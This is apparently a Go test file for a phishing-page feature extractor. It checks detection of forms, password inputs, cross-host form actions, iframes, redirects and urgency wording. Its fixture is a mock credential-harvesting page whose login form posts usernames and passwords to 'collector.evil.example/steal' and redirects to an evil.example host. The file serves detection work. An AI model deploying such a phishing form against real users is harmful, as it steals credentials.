package features

import (
	"testing"

	"go.uber.org/zap"
)

const phishingPage = `<!DOCTYPE html>
<html>
<head><title>Account Verification</title></head>
<body>
<p>Warning: your account has been suspended. Verify now to restore access.</p>
<form action="http://collector.evil.example/steal" method="post">
  <input type="text" name="user">
  <input type="password" name="pass">
</form>
<iframe src="https://tracker.example/frame"></iframe>
<script>setTimeout(function(){ window.location = "http://next.evil.example"; }, 100);</script>
</body>
</html>`

func TestContentExtractPhishingPage(t *testing.T) {
	t.Parallel()

	ext := NewContentExtractor(zap.NewNop())
	res := ext.Extract(mustValidate(t, "https://login.example.com/"), phishingPage)
	if res.Skipped {
		t.Fatal("content group unexpectedly skipped")
	}

	cf := res.Features
	if cf.HasForm != 1 {
		t.Fatalf("HasForm = %v, want 1", cf.HasForm)
	}
	if cf.HasPasswordInput != 1 {
		t.Fatalf("HasPasswordInput = %v, want 1", cf.HasPasswordInput)
	}
	if cf.FormActionMismatch != 1 {
		t.Fatalf("FormActionMismatch = %v, want 1 for cross-host action", cf.FormActionMismatch)
	}
	if cf.HasIframe != 1 {
		t.Fatalf("HasIframe = %v, want 1", cf.HasIframe)
	}
	if cf.HasJSRedirect != 1 {
		t.Fatalf("HasJSRedirect = %v, want 1", cf.HasJSRedirect)
	}
	// "warning", "suspended", "verify now" and "restore account" style
	// phrases hit multiple urgency patterns.
	if cf.UrgencyScore < 2 {
		t.Fatalf("UrgencyScore = %v, want at least 2", cf.UrgencyScore)
	}
}

func TestContentExtractBenignPage(t *testing.T) {
	t.Parallel()

	page := `<html><body>
<h1>Reference article</h1>
<p>Nothing pressing here.</p>
<form action="/search"><input type="text" name="q"></form>
</body></html>`

	ext := NewContentExtractor(zap.NewNop())
	res := ext.Extract(mustValidate(t, "https://example.com/"), page)

	cf := res.Features
	if cf.HasForm != 1 {
		t.Fatalf("HasForm = %v, want 1", cf.HasForm)
	}
	if cf.FormActionMismatch != 0 {
		t.Fatalf("FormActionMismatch = %v, want 0 for relative action", cf.FormActionMismatch)
	}
	if cf.HasPasswordInput != 0 || cf.HasIframe != 0 || cf.HasJSRedirect != 0 {
		t.Fatalf("benign page tripped flags: %+v", cf)
	}
	if cf.UrgencyScore != 0 {
		t.Fatalf("UrgencyScore = %v, want 0", cf.UrgencyScore)
	}
}

func TestContentExtractEmptySkips(t *testing.T) {
	t.Parallel()

	ext := NewContentExtractor(zap.NewNop())
	if res := ext.Extract(mustValidate(t, "https://example.com/"), "   "); !res.Skipped {
		t.Fatal("expected blank content to skip the group")
	}
}

func TestContentExtractMetaRefresh(t *testing.T) {
	t.Parallel()

	page := `<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/"></head><body>ok</body></html>`
	ext := NewContentExtractor(zap.NewNop())
	res := ext.Extract(mustValidate(t, "https://example.com/"), page)
	if res.Features.HasJSRedirect != 1 {
		t.Fatalf("HasJSRedirect = %v, want 1 for meta refresh", res.Features.HasJSRedirect)
	}
}

func TestFormActionMismatch(t *testing.T) {
	t.Parallel()

	cases := []struct {
		action string
		want   bool
	}{
		{"", false},
		{"#", false},
		{"/login", false},
		{"javascript:void(0)", false},
		{"https://example.com/submit", false},
		{"https://EXAMPLE.com/submit", false},
		{"https://other.example.net/submit", true},
		{"//cdn.example.org/collect", true},
	}
	for _, tc := range cases {
		if got := formActionMismatch("example.com", tc.action); got != tc.want {
			t.Fatalf("formActionMismatch(%q) = %v, want %v", tc.action, got, tc.want)
		}
	}
}
